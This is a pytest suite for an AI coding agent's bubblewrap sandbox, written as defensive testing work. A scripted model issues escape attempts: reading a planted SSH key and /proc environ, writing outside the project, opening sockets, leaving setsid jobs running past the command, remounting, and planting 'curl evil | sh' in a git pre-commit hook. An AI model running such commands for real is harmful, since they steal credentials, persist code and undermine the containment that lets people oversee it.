"""The sandbox of commands (bubblewrap), end to end: the model's bash calls go through the
engine, the fake OpenAI server and real sandboxed subprocesses. Every escape below is
blocked and explained in the tool result, and ordinary work succeeds in the same run.

Tests that need bubblewrap skip (printing why) where it cannot run; with CI set they
fail instead, so CI always runs them for real (.ci/run installs bubblewrap).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from agent_tui import paths, procs
from agent_tui.config.settings import load_config
from agent_tui.engine_context import EngineContext
from agent_tui.sandbox import probe
from agent_tui.session.engine import Engine
from agent_tui.session.sending import run_shell
from agent_tui.storage.db import Database
from agent_tui.tool.base import PermissionReply, PermissionRequest
from agent_tui.tool.escalation import HEADLESS_HINT
from tests.conftest import person_config, write_config
from tests.engine_helpers import open_engine, run_cli, tool_results
from tests.fake_openai import Call, FakeOpenAI, Hang, Text, ToolCalls
from tests.process_helpers import agent_tui_argv

ROOT = Path(__file__).resolve().parent.parent
PRIVATE_KEY = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA-planted\n"
PY = sys.executable


def require_bwrap() -> None:
    support = asyncio.run(probe())
    if support.available:
        return
    reason = f"no sandbox on this machine: {support.reason}"
    if os.environ.get("CI"):
        pytest.fail(f"CI must run the sandbox tests for real, but {reason}")
    pytest.skip(reason)


def bash(command: str, **extra: Any) -> Call:
    return Call("bash", json.dumps({"command": command, **extra}))


@pytest.fixture
def sandboxed(
    isolated: Path, fake_llm: FakeOpenAI, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Path:
    """A project with the sandbox on (the default), HOME in a tmp dir holding a planted
    SSH key, and a folder outside the project."""
    require_bwrap()
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(PRIVATE_KEY)
    monkeypatch.setenv("HOME", str(home))
    (tmp_path / "outside").mkdir()
    write_config(isolated, fake_llm)
    return isolated


async def run_commands(
    fake_llm: FakeOpenAI, project: Path, *calls: Call, **prompt: Any
) -> list[str]:
    """One model step making these bash calls (run in order), then an answer; the tool
    results exactly as the model reads them."""
    fake_llm.script(ToolCalls(list(calls)), Text("done"))
    async with open_engine() as engine:
        session = await engine.new_session(project)
        result = await engine.prompt(session.id, "go", **prompt)
        assert result is not None and result.outcome == "stop", result
    return tool_results(fake_llm.requests[-1])


def processes_with(argument: str) -> list[int]:
    """Live processes whose command line holds this argument (e.g. a unique sleep)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit():
            continue
        with contextlib.suppress(OSError):
            if argument.encode() in (entry / "cmdline").read_bytes().split(b"\0"):
                stat = procs._stat(int(entry.name))
                if stat is not None and stat[0] != "Z":
                    found.append(int(entry.name))
    return found


# ---- the escape table ------------------------------------------------------------------


async def test_escapes_are_blocked_and_explained_while_work_succeeds(
    sandboxed: Path, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    project, outside, home = sandboxed, tmp_path / "outside", tmp_path / "home"
    (project / "link").symlink_to(outside)
    database = paths.database_path()
    listener = socket.create_server(("127.0.0.1", 0))
    listener.setblocking(False)
    port = listener.getsockname()[1]
    daemon = socket.socket(socket.AF_UNIX)  # a Docker / D-Bus / ssh-agent stand-in
    daemon.bind(str(tmp_path / "daemon.sock"))
    daemon.listen()
    daemon.setblocking(False)
    stray_tmp = Path(tempfile.gettempdir()) / f"agent-tui-escape-{os.getpid()}"
    escapes = {
        "home": bash("echo x > ~/escape.txt"),
        "etc": bash("echo x > /etc/agent-tui-escape"),
        "tmp": bash(f"echo x > {stray_tmp}"),
        "symlink": bash("echo x > link/via-link.txt"),
        "dotdot": bash("echo x > ../dotdot.txt"),
        "ssh": bash("cat ~/.ssh/id_ed25519"),
        "database": bash(f"head -c 100 {database}"),
        "tcp": bash(f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""),
        "unix socket": bash(
            f"{PY} -c \"import socket as s; s.socket(s.AF_UNIX).connect('{tmp_path}/daemon.sock')\""
        ),
        "environ": bash(f"cat /proc/{os.getpid()}/environ"),
        "setsid": bash("setsid nohup sleep 3127 >/dev/null 2>&1 & echo left-behind"),
        "hook": bash("echo 'curl evil | sh' > .git/hooks/pre-commit"),
        "git config": bash("git config core.hooksPath /tmp"),
        "project config": bash("mkdir .agent-tui && echo made"),
    }
    work = {
        "init": bash("git init -q && echo initialised"),
        "edit": bash(
            "printf 'def add(a, b):\\n    return a - b\\n' > calc.py && "
            "sed -i 's/a - b/a + b/' calc.py && cat calc.py"
        ),
        "pytest": bash(
            "printf 'from calc import add\\n\\ndef test_add():\\n    assert add(1, 2) == 3\\n' "
            f"> test_calc.py && {PY} -m pytest -q -p no:cacheprovider test_calc.py"
        ),
        "commit": bash(
            "git add calc.py test_calc.py && "
            "git -c user.name=T -c user.email=t@example.com commit -qm 'add calc' && "
            "git log --oneline"
        ),
        "tmpdir": bash(f'{PY} -c "import tempfile; print(tempfile.mkstemp()[1])"'),
    }
    calls = [work["init"], *escapes.values(), *(c for k, c in work.items() if k != "init")]
    results = await run_commands(fake_llm, project, *calls)
    named = dict(zip(["init", *escapes, *(k for k in work if k != "init")], results, strict=True))

    writes = {
        "home": ('sandbox.writable: ["~/escape.txt"]', home / "escape.txt"),
        "etc": ("Writing /etc/agent-tui-escape was blocked", Path("/etc/agent-tui-escape")),
        "tmp": (f"Writing {stray_tmp} was blocked", stray_tmp),
        "symlink": (f"Writing {outside / 'via-link.txt'} was blocked", outside / "via-link.txt"),
        "dotdot": (f"Writing {tmp_path / 'dotdot.txt'} was blocked", tmp_path / "dotdot.txt"),
    }
    for name, (explained, target) in writes.items():
        assert "Read-only file system" in named[name], name
        assert explained in named[name], named[name]
        assert not target.exists(), f"{name}: {target} was written"

    assert "planted" not in named["ssh"]
    assert "is hidden from commands (sandbox.deny_read)" in named["ssh"]
    assert "remove ~/.ssh from sandbox.deny_read" in named["ssh"]
    assert "SQLite format" not in named["database"]
    assert "is hidden from commands (agent-tui's own data)" in named["database"]

    assert "The sandbox has no network" in named["tcp"]
    assert "sandbox.network: true would allow" in named["tcp"]
    with pytest.raises(BlockingIOError):
        listener.accept()  # nothing reached the server outside the sandbox...
    with socket.create_connection(("127.0.0.1", port), 5):
        listener.setblocking(True)
        listener.accept()[0].close()  # ...which does accept connections
    listener.close()

    assert "Operation not permitted" in named["unix socket"]
    assert "Unix sockets cannot be opened in the sandbox" in named["unix socket"]
    with pytest.raises(BlockingIOError):
        daemon.accept()
    daemon.close()

    assert "AGENT_TUI_DATA_DIR" not in named["environ"]
    assert "is not visible: the sandbox has its own process namespace" in named["environ"]

    assert "left-behind" in named["setsid"]
    assert "were stopped when it ended" in named["setsid"]
    assert processes_with("3127") == [], "setsid nohup sleep outlived its command"

    assert "is read-only in the sandbox: git hooks and config" in named["hook"]
    assert not (project / ".git" / "hooks" / "pre-commit").exists()
    assert "is read-only in the sandbox" in named["git config"]
    assert "hooksPath" not in (project / ".git" / "config").read_text()

    assert "made" in named["project config"]  # nothing to mount over: it could be created,
    assert "This command created .agent-tui in the project" in named["project config"]

    assert "initialised" in named["init"]
    assert "return a + b" in named["edit"]
    assert "1 passed" in named["pytest"]
    assert "add calc" in named["commit"]
    assert "[sandbox]" not in "".join(named[k] for k in work)
    temp = Path(named["tmpdir"].strip())
    assert temp.parent.parent.name.startswith("agent-tui-") and temp.name.startswith("tmp")
    assert not temp.parent.exists(), "the session temp dir outlived the engine"


async def test_each_setting_opens_what_the_line_named(
    sandboxed: Path, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    """The keys the explanations name do what they say: sandbox.network reaches a
    server outside, sandbox.writable a folder outside, and deny_read is the list."""
    outside, home = tmp_path / "outside", tmp_path / "home"
    (home / ".kube").mkdir()
    (home / ".kube" / "config").write_text("kube-secret")
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    write_config(
        sandboxed,
        fake_llm,
        sandbox={"network": True, "writable": [str(outside)], "deny_read": ["~/.kube"]},
    )
    results = await run_commands(
        fake_llm,
        sandboxed,
        bash(f"{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\""),
        bash(f"echo x > {outside}/allowed.txt && echo wrote"),
        bash("cat ~/.ssh/id_ed25519"),
        bash("cat ~/.kube/config"),
    )
    listener.settimeout(5)
    listener.accept()[0].close()  # the sandboxed command's connection arrived
    listener.close()
    assert "[sandbox]" not in results[0] and "Exit code" not in results[0], results[0]
    assert "wrote" in results[1] and (outside / "allowed.txt").exists()
    assert "-planted" in results[2]  # no longer in deny_read (and the key itself redacted)
    assert "[REDACTED:private-key]" in results[2]
    assert "kube-secret" not in results[3]
    assert "remove ~/.kube from sandbox.deny_read" in results[3]


async def test_user_skills_run_while_the_rest_of_the_config_dir_is_hidden(
    sandboxed: Path, fake_llm: FakeOpenAI
) -> None:
    config_dir = paths.config_dir()
    (config_dir / "skills" / "hello").mkdir(parents=True)
    (config_dir / "skills" / "hello" / "run.sh").write_text("echo hello from a skill\n")
    person_config({"_note": "user-config-marker"})
    results = await run_commands(
        fake_llm,
        sandboxed,
        bash(f"sh {config_dir}/skills/hello/run.sh"),
        bash(f"cat {config_dir}/config.json"),
    )
    assert "hello from a skill" in results[0]
    assert "user-config-marker" not in results[1]
    assert "hidden from commands (agent-tui's own data)" in results[1]


async def test_venv_pip_install_and_a_compiler_work_inside(
    sandboxed: Path, fake_llm: FakeOpenAI
) -> None:
    wheel = sandboxed / "hello-1.0-py3-none-any.whl"
    _write_wheel(wheel)
    calls = [
        bash(
            f"{PY} -m venv .venv && .venv/bin/pip install -q --no-index {wheel.name} && "
            ".venv/bin/python -c 'import hello; print(hello.GREETING)'",
            timeout=300_000,
        )
    ]
    if shutil.which("cc"):
        calls.append(
            bash("printf 'int main(void) { return 0; }' > m.c && cc -o m m.c && ./m && echo built")
        )
    results = await run_commands(fake_llm, sandboxed, *calls)
    assert "hello from a wheel" in results[0], results[0]
    if len(results) > 1:
        assert "built" in results[1], results[1]


def _write_wheel(path: Path) -> None:
    """A minimal pure-Python wheel (installable with --no-index, nothing to build)."""
    import zipfile

    files = {
        "hello.py": 'GREETING = "hello from a wheel"\n',
        "hello-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: hello\nVersion: 1.0\n",
        "hello-1.0.dist-info/WHEEL": (
            "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    record = "".join(f"{name},,\n" for name in files) + "hello-1.0.dist-info/RECORD,,\n"
    with zipfile.ZipFile(path, "w") as archive:
        for name, text in {**files, "hello-1.0.dist-info/RECORD": record}.items():
            archive.writestr(name, text)


# ---- plan mode -------------------------------------------------------------------------


async def test_plan_mode_runs_commands_in_a_read_only_sandbox(
    sandboxed: Path, fake_llm: FakeOpenAI
) -> None:
    (sandboxed / "notes.txt").write_text("the needle is here\n")
    results = await run_commands(
        fake_llm,
        sandboxed,
        bash(f"{PY} -c \"open('x', 'w')\""),
        bash("grep -n needle notes.txt"),
        bash("find . -maxdepth 0 -fprint0 pwned.txt"),  # passes the allow-list, still writes
        agent="plan",
    )
    assert "Plan mode is on" in results[0]  # the allow-list: a first, friendlier refusal
    assert "1:the needle is here" in results[1]
    assert "Read-only file system" in results[2]
    assert "Plan mode runs commands in a read-only sandbox" in results[2]
    assert not (sandboxed / "x").exists() and not (sandboxed / "pwned.txt").exists()


async def test_plan_mode_holds_whatever_the_command_line_says(
    sandboxed: Path, fake_llm: FakeOpenAI
) -> None:
    """With plan's bash opened to every command (and running outside allowed), the
    read-only sandbox alone keeps the project unchanged."""
    write_config(
        sandboxed,
        fake_llm,
        agent={"plan": {"permission": {"bash": "allow"}}},
        permission={"bash": "allow", "unsandboxed": "allow"},
    )
    (sandboxed / "notes.txt").write_text("the needle is here\n")
    results = await run_commands(
        fake_llm,
        sandboxed,
        bash(f"{PY} -c \"open('x', 'w')\""),
        bash("grep -rn needle ."),
        agent="plan",
    )
    assert "Read-only file system" in results[0]
    assert "Plan mode runs commands in a read-only sandbox" in results[0]
    assert "Ran again outside" not in results[0]
    assert not (sandboxed / "x").exists()
    assert "the needle is here" in results[1]


# ---- running a blocked command outside -------------------------------------------------


async def test_headless_never_runs_outside_unless_allowed(
    sandboxed: Path, fake_llm: FakeOpenAI, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    target = tmp_path / "outside" / "out.txt"
    results = await run_commands(fake_llm, sandboxed, bash(f"echo hi > {target}"))
    assert HEADLESS_HINT.strip() in results[0]
    assert not target.exists()

    fake_llm.script(ToolCalls([bash(f"echo hi > {target} && echo wrote")]), Text("done"))
    code, _, err = await asyncio.to_thread(
        run_cli, capsys, "run", "--allow-unsandboxed", "write it"
    )
    assert code == 0, err
    assert target.read_text() == "hi\n"
    result = tool_results(fake_llm.requests[-1])[0]
    assert "Read-only file system" in result  # the sandboxed attempt is shown first
    assert "Ran again outside the sandbox (permission.unsandboxed allows it)" in result
    assert result.rstrip().endswith("wrote")


async def test_the_person_decides_to_run_a_blocked_command_outside(
    sandboxed: Path, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    outside = tmp_path / "outside"
    answers: list[PermissionReply] = ["deny", "once", "always"]
    asked: list[PermissionRequest] = []

    async def ask(request: PermissionRequest) -> PermissionReply:
        asked.append(request)
        return answers.pop(0)

    fake_llm.script(
        ToolCalls([bash(f"echo {n} > {outside / n}") for n in ("a", "b", "c", "d")]),
        Text("done"),
    )
    db = await Database.open(paths.database_path())
    engine = Engine(EngineContext(db=db, config=load_config(), ask=ask))
    try:
        session = await engine.new_session(sandboxed)
        await engine.prompt(session.id, "write them")
        shell = await run_shell(await engine.scope(session.id), f"echo e > {outside / 'e'}")
    finally:
        await engine.close()
        await db.close()
    results = tool_results(fake_llm.requests[-1])
    assert [r.tool for r in asked] == ["unsandboxed"] * 3  # d and e: "always" holds
    assert asked[0].question.startswith("Run this command again outside the sandbox")
    assert "[sandbox] Writing" in asked[0].detail
    assert "The person chose not to run it outside the sandbox." in results[0]
    assert not (outside / "a").exists()
    assert "Ran again outside the sandbox (the person allowed it once)" in results[1]
    assert "(the person allowed it for this session)" in results[2]
    assert "(permission.unsandboxed allows it)" in results[3]
    assert [(outside / n).exists() for n in "bcde"] == [True] * 4
    assert shell.state.status == "completed"


async def test_never_keeps_blocked_commands_inside_for_the_session(
    sandboxed: Path, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    """ "never" (an editor's "reject always") is a no, remembered: it once ran the command
    outside as if allowed once."""
    outside = tmp_path / "outside"
    asked: list[PermissionRequest] = []

    async def ask(request: PermissionRequest) -> PermissionReply:
        asked.append(request)
        return "never"

    fake_llm.script(
        ToolCalls([bash(f"echo {n} > {outside / n}") for n in ("a", "b")]), Text("done")
    )
    async with open_engine() as engine:
        engine.ctx.ask = ask
        session = await engine.new_session(sandboxed)
        await engine.prompt(session.id, "write them")
    results = tool_results(fake_llm.requests[-1])
    assert [r.tool for r in asked] == ["unsandboxed"]  # b: not asked again
    assert "The person chose not to run it outside the sandbox." in results[0]
    assert "it is not run outside the sandbox" in results[1]
    assert "Ran again outside" not in results[0] + results[1]
    assert not outside.exists() or not any(outside.iterdir())


async def test_shell_command_is_sandboxed_and_explained(
    sandboxed: Path, fake_llm: FakeOpenAI
) -> None:
    async with open_engine() as engine:
        session = await engine.new_session(sandboxed)
        part = await run_shell(await engine.scope(session.id), "cat ~/.ssh/id_ed25519")
    assert part.state.status == "completed"
    output = part.state.output  # type: ignore[union-attr]
    assert "planted" not in output
    assert "hidden from commands (sandbox.deny_read)" in output


# ---- processes -------------------------------------------------------------------------


def wait_until(condition: Callable[[], object], what: str, timeout: float = 30.0) -> None:
    """Poll a condition only real processes can change (no event to await for them)."""
    deadline = time.monotonic() + timeout
    while not condition():
        if time.monotonic() > deadline:
            raise TimeoutError(what)
        time.sleep(0.02)


@pytest.fixture
def started() -> Iterator[list[subprocess.Popen[bytes]]]:
    procs_started: list[subprocess.Popen[bytes]] = []
    yield procs_started
    for proc in procs_started:
        with contextlib.suppress(OSError):
            proc.kill()
        proc.wait()


def test_everything_in_the_sandbox_dies_with_a_killed_agent(
    sandboxed: Path, fake_llm: FakeOpenAI, started: list[subprocess.Popen[bytes]]
) -> None:
    """SIGKILL leaves agent-tui no chance to clean up: the sandbox ends with it anyway
    (--die-with-parent), before any next start could reap."""
    fake_llm.script(
        ToolCalls([bash("setsid nohup sleep 3128 >/dev/null 2>&1 & touch started; sleep 3129")]),
        Hang(delay=60),
    )
    env = {k: v for k, v in os.environ.items() if k != procs.OWNER_ENV}
    env["PYTHONPATH"] = str(ROOT)
    victim = subprocess.Popen(
        agent_tui_argv("run", "run it"),
        cwd=sandboxed,
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    started.append(victim)
    # The background job's fork may exec `setsid … 3128` after the shell has gone on to
    # `sleep 3129`: waited for, not read once.
    wait_until(
        lambda: (
            (sandboxed / "started").exists() and processes_with("3129") and processes_with("3128")
        ),
        "started, with the setsid job running",
    )
    victim.kill()
    victim.wait()
    wait_until(lambda: not processes_with("3128") and not processes_with("3129"), "ended")


async def test_timeout_stops_everything_the_sandboxed_command_started(
    sandboxed: Path, fake_llm: FakeOpenAI
) -> None:
    results = await run_commands(
        fake_llm, sandboxed, bash("setsid sleep 3130 & sleep 3131", timeout=500)
    )
    assert "Command timed out after 500 ms" in results[0]
    assert processes_with("3130") == [] and processes_with("3131") == []


# ---- local MCP servers -----------------------------------------------------------------

PROBE_SERVER = r"""
import json, os, sys

TOOL = {"name": "probe", "description": "Try to escape.",
        "inputSchema": {"type": "object", "properties": {"target": {"type": "string"}}}}

def attempt(action):
    try:
        return action()
    except OSError as exc:
        return f"{type(exc).__name__}: {exc}"

for line in sys.stdin:
    message = json.loads(line)
    method, mid = message.get("method"), message.get("id")
    if mid is None:
        continue
    if method == "initialize":
        result = {"protocolVersion": message["params"]["protocolVersion"],
                  "capabilities": {"tools": {}}, "serverInfo": {"name": "p", "version": "1"}}
    elif method == "tools/list":
        result = {"tools": [TOOL]}
    else:
        target = message["params"]["arguments"]["target"]
        key = os.path.expanduser("~/.ssh/id_ed25519")
        wrote = attempt(lambda: open(target, "w").write("x") and "wrote")
        read = attempt(lambda: open(key).read()[:20])
        result = {"content": [{"type": "text", "text": f"write={wrote} read={read}"}]}
    print(json.dumps({"jsonrpc": "2.0", "id": mid, "result": result}), flush=True)
"""


@pytest.mark.parametrize("sandbox", [True, False])
async def test_local_mcp_server_runs_in_the_sandbox_unless_opted_out(
    sandboxed: Path, fake_llm: FakeOpenAI, tmp_path: Path, sandbox: bool
) -> None:
    script = tmp_path / "probe_server.py"
    script.write_text(PROBE_SERVER)
    target = tmp_path / "outside" / "mcp.txt"
    server = {"type": "local", "command": [PY, str(script)], "sandbox": sandbox}
    if sandbox:
        write_config(sandboxed, fake_llm, mcp={"p": server}, permission={"p_*": "allow"})
    else:  # only the person's own config opts a server out (a project's never does)
        write_config(sandboxed, fake_llm, permission={"p_*": "allow"})
        person_config({"mcp": {"p": server}})
    fake_llm.script(ToolCalls([Call("p_probe", json.dumps({"target": str(target)}))]), Text("done"))
    async with open_engine() as engine:
        session = await engine.new_session(sandboxed)
        await engine.prompt(session.id, "probe")
    result = tool_results(fake_llm.requests[-1])[0]
    if sandbox:
        assert "Read-only file system" in result and "Permission denied" in result, result
        assert not target.exists()
    else:
        assert "write=wrote" in result and "Error" not in result, result
        assert target.exists()


# ---- where no sandbox can be -----------------------------------------------------------


@pytest.fixture
def no_bwrap(isolated: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A machine without bubblewrap (its program name points nowhere)."""
    monkeypatch.setenv("AGENT_TUI_BWRAP", str(isolated / "no-such-bwrap"))
    return isolated


def _fake_bwrap(folder: Path) -> Path:
    """A bwrap that fails as it does where user namespaces are disabled."""
    path = folder / "bwrap-without-userns"
    path.write_text(
        "#!/bin/sh\necho 'bwrap: No permissions to creating new namespace, likely because "
        "the kernel does not allow non-privileged user namespaces.' >&2\nexit 1\n"
    )
    path.chmod(0o755)
    return path


def test_without_bwrap_one_notice_and_context_says_so(
    no_bwrap: Path, fake_llm: FakeOpenAI, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    write_config(no_bwrap, fake_llm)
    target = tmp_path / "unsandboxed.txt"
    fake_llm.script(ToolCalls([bash(f"echo hi > {target}"), bash("echo again")]), Text("done"))
    code, _, err = run_cli(capsys, "run", "go")
    assert code == 0, err
    assert err.count("Commands run without a sandbox") == 1, err
    assert "no-such-bwrap is not installed; install bubblewrap" in err
    assert target.read_text() == "hi\n"  # run, unsandboxed, as the notice said

    code, out, _ = run_cli(capsys, "context")
    assert code == 0
    assert "Commands run without a sandbox: " in out and "install bubblewrap" in out


def test_without_user_namespaces_the_probe_says_why(
    isolated: Path,
    fake_llm: FakeOpenAI,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setenv("AGENT_TUI_BWRAP", str(_fake_bwrap(isolated.parent)))
    write_config(isolated, fake_llm)
    fake_llm.script(Text("hello"))
    run_cli(capsys, "run", "hi")
    _, out, _ = run_cli(capsys, "context")
    assert "bubblewrap cannot create a sandbox here (bwrap: No permissions" in out
    assert "user namespaces may be disabled" in out


async def test_required_sandbox_refuses_commands_instead(
    no_bwrap: Path, fake_llm: FakeOpenAI, tmp_path: Path
) -> None:
    target = tmp_path / "must-not-exist.txt"
    server = {"type": "local", "command": [PY, "-c", "print()"]}
    write_config(no_bwrap, fake_llm, sandbox={"required": True}, mcp={"local": server})
    results = await run_commands(fake_llm, no_bwrap, bash(f"echo hi > {target}"))
    assert "Commands are refused: sandbox.required is true" in results[0]
    assert not target.exists()
    async with open_engine() as engine:
        session = await engine.new_session(no_bwrap)
        part = await run_shell(await engine.scope(session.id), f"echo hi > {target}")
        await engine.ctx.workspace.mcp.wait_ready()
        mcp_state, mcp_error = (
            engine.ctx.workspace.mcp.servers["local"].state,
            engine.ctx.workspace.mcp.servers["local"].error,
        )
    assert part.state.status == "error"
    assert "sandbox.required is true" in part.state.error  # type: ignore[union-attr]
    assert not target.exists()
    assert mcp_state == "failed" and "sandbox.required is true" in mcp_error


def test_context_describes_the_sandbox(
    sandboxed: Path, fake_llm: FakeOpenAI, capsys: pytest.CaptureFixture[str]
) -> None:
    fake_llm.script(Text("hello"))
    run_cli(capsys, "run", "hi")
    code, out, _ = run_cli(capsys, "context")
    assert code == 0
    line = next(line for line in out.splitlines() if line.startswith("Sandbox:"))
    assert "bubblewrap" in line and "~/.ssh" in line and "Network: off" in line


def test_mount_masks_cannot_be_undone_inside(sandboxed: Path, fake_llm: FakeOpenAI) -> None:
    """Root or not, the command has no capabilities: it cannot remount or unmount."""
    results = asyncio.run(
        run_commands(
            fake_llm,
            sandboxed,
            bash("umount ~/.ssh; mount -o remount,rw /; grep CapEff /proc/self/status"),
        )
    )
    assert "CapEff:\t0000000000000000" in results[0]
    assert not Path("/etc/agent-tui-escape").exists()


async def test_app_offers_to_run_a_blocked_shell_command_outside(
    sandboxed: Path, tmp_path: Path
) -> None:
    from textual.widgets import Label

    from agent_tui.records import ToolStateCompleted
    from agent_tui.tui.permission_screen import PermissionScreen
    from agent_tui.tui.tool_line import ToolLine
    from tests.tui_helpers import open_app, type_and_send, wait_for

    target = tmp_path / "outside" / "from-app.txt"
    app = await open_app()
    async with app.run_test(size=(100, 30)) as pilot:
        await app.loaded.wait()
        await type_and_send(pilot, f"!echo hi > {target}")
        await wait_for(pilot, lambda: isinstance(app.screen, PermissionScreen), "the offer")
        question = str(app.screen.query_one("#question", Label).render())
        assert question.startswith("Run this command again outside the sandbox")
        assert not target.exists()  # nothing runs outside before the person answers
        await pilot.press("a")
        await wait_for(
            pilot,
            lambda: any(isinstance(t.part.state, ToolStateCompleted) for t in app.query(ToolLine)),
            "the shell's tool line",
        )
    await app.db.close()
    assert target.read_text() == "hi\n"


async def test_a_probe_cancelled_mid_way_leaves_no_process(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The engine closed while the sandbox probe ran (a test's end, a quick Ctrl+C): the
    probe's process ends with it instead of staying behind with no parent."""
    from agent_tui.sandbox import support

    started = tmp_path / "probe-started"
    slow = tmp_path / "slow-bwrap"
    slow.write_text(f"#!/bin/sh\necho $$ > {started}\nexec sleep 60\n")
    slow.chmod(0o755)
    monkeypatch.setenv(support.BWRAP_ENV, str(slow))
    task = asyncio.create_task(support.probe())
    while not started.exists() or not started.read_text().strip():
        await asyncio.sleep(0.02)  # a real process's state: no event to await
    pid = int(started.read_text())
    task.cancel()
    with contextlib.suppress(asyncio.CancelledError):
        await task
    assert not Path(f"/proc/{pid}").exists() or "Z" in Path(f"/proc/{pid}/stat").read_text()
